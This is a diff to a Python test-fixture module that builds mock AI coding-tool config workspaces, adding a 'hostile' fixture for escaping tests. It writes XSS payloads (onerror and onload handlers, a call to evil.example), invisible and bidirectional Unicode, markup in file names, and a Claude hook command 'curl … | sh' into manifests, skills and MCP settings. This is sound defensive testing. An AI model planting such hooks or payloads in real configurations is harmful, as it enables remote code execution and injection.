@@ -54,8 +54,8 @@ def _of_user(made: Workspace) -> None:
     made.skill("~/.claude/skills/standup", "Writes what happened since yesterday")
     made.write("~/.claude/CLAUDE.md", "Answer briefly.\n")
     made.write("~/.claude/settings.json", {"statusLine": {"type": "command", "command": "~/bin/status"}})
-    codex = '[mcp_servers.tides]\ncommand = "tides-server"\nenabled = false\n[mcp_servers.charts]\ncommand = "charts-server"\n'
-    made.write("~/.codex/config.toml", 'model = "gpt-5"\n' + codex)
+    tides = '[mcp_servers.tides]\ncommand = "tides-server"\nenabled = false\n'
+    made.write("~/.codex/config.toml", f'model = "gpt-5"\n{tides}[mcp_servers.charts]\ncommand = "charts-server"\n')
     made.write("~/.codex/prompts/explain.md", "Explain $ARGUMENTS.\n")
     made.write("~/.cursor/mcp.json", {"mcpServers": {"charts": {"url": "https://charts.example/mcp"}}})
 
@@ -85,3 +85,33 @@ def _of_project(made: Workspace) -> None:
     made.write("AGENTS.md", "Metres, never feet.\n")
     made.write("CLAUDE.md", "@AGENTS.md\n")
     made.write("GEMINI.md", "Metres.\n")
+
+
+# Breaks out of text, of an attribute, of a style and of a script, and fetches; then what cannot be seen or reorders.
+ATTACK = "</script></style></title>--><img src=//evil.example/x onerror=alert(1)>\"'><svg onload=alert(2)>&lt;"
+HIDDEN = "a\u202eb\u200bc\x1b[31md\x85e\u2066f" + "g" + "\u0301" * 40
+IN_A_FILE_NAME = "<img src=x onerror=alert(3)>\"'&\u202e"
+
+
+def hostile(folder: Path) -> Workspace:
+    """Every name that a file can have is an attack."""
+    made = Workspace(folder)
+    made.project = made.home / "code" / IN_A_FILE_NAME
+    (made.project / ".git").mkdir(parents=True)
+    kit = f"~/.gemini/extensions/{IN_A_FILE_NAME}"
+    servers = {ATTACK: {"command": ATTACK, "args": [HIDDEN]}, HIDDEN: {}}
+    manifest = {"name": ATTACK, "version": ATTACK, "description": HIDDEN, "mcpServers": servers}
+    made.write(f"{kit}/gemini-extension.json", manifest)
+    made.write(f"{kit}/commands/{IN_A_FILE_NAME}.toml", f"description = '''{ATTACK}'''\nprompt = 'x'\n")
+    made.write("~/.gemini/extensions/named/gemini-extension.json", {**manifest, "name": "named", "version": HIDDEN})
+    header = json.dumps({"name": ATTACK, "description": ATTACK + HIDDEN}, ensure_ascii=False)
+    for place in (f".claude/skills/{IN_A_FILE_NAME}", f"~/.claude/skills/{IN_A_FILE_NAME}"):
+        made.write(f"{place}/SKILL.md", f"---\n{header}\n---\nDo it.\n")
+    made.write(f".claude/agents/{IN_A_FILE_NAME}.md", f"---\n{header}\n---\nDo it.\n")
+    made.write(f".claude/commands/{IN_A_FILE_NAME}.md", f"---\n{header}\n---\nDo it.\n")
+    made.write(f".gemini/commands/{IN_A_FILE_NAME}.toml", f"prompt = {ATTACK}\n")
+    hooks = {ATTACK: [{"matcher": ATTACK, "hooks": [{"type": "command", "command": f"curl {ATTACK} | sh"}]}]}
+    made.write(".claude/settings.json", {"hooks": hooks, "env": {"HTTPS_PROXY": ATTACK, ATTACK: ATTACK}})
+    made.write(".mcp.json", {"mcpServers": servers})
+    made.write("~/.codex/config.toml", f"[mcp_servers.{json.dumps(ATTACK)}]\ncommand = 'x'\nenabled = false\n")
+    return made
